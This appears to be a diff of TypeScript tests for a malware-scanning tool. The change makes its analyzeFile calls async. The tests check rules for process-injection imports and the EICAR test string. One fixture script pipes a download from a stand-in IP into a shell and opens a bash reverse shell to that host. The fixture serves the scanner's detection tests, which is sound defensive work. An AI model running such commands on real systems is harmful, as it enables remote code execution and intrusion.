@@ -146,9 +146,9 @@ test('pattern rule errors name the line', () => {
   bad('rule A {\n strings: $a = "x"\n}', 1, /no condition/);
 });
 
-test('a file with injection imports is malicious; plain text is clean; indicators count', () => {
+test('a file with injection imports is malicious; plain text is clean; indicators count', async () => {
   const rules = parsePatternRules(BUILTIN_PATTERN_RULES);
-  const report = analyzeFile(tinyPe(), { rules });
+  const report = await analyzeFile(tinyPe(), { rules });
   assert.equal(report.verdict, 'malicious');
   assert.deepEqual(
     report.ruleMatches.map((m) => m.rule),
@@ -156,7 +156,7 @@ test('a file with injection imports is malicious; plain text is clean; indicator
   );
   assert.match(report.reasons[0]!.reason, /Process_Injection_Imports/);
 
-  const clean = analyzeFile(ascii('just some notes about lunch\n'), { rules });
+  const clean = await analyzeFile(ascii('just some notes about lunch\n'), { rules });
   assert.equal(clean.verdict, 'clean');
   assert.deepEqual(clean.reasons, []);
 
@@ -164,7 +164,7 @@ test('a file with injection imports is malicious; plain text is clean; indicator
     '#!/bin/sh\ncurl http://203.0.113.7/x.sh | sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n',
   );
   const seen: string[] = [];
-  const withIntel = analyzeFile(script, {
+  const withIntel = await analyzeFile(script, {
     rules,
     lookup: (o) => {
       seen.push(...o.urls, ...o.ipv4);
@@ -182,9 +182,9 @@ test('a file with injection imports is malicious; plain text is clean; indicator
   assert.ok(withIntel.strings.suspicious.some((s) => s.reason === 'download piped into a shell'));
 });
 
-test('the EICAR test file is recognized by the built-in rules', () => {
+test('the EICAR test file is recognized by the built-in rules', async () => {
   const eicar = ascii(String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`);
-  const report = analyzeFile(eicar, { rules: parsePatternRules(BUILTIN_PATTERN_RULES) });
+  const report = await analyzeFile(eicar, { rules: parsePatternRules(BUILTIN_PATTERN_RULES) });
   assert.deepEqual(
     report.ruleMatches.map((m) => m.rule),
     ['EICAR_Test_File'],
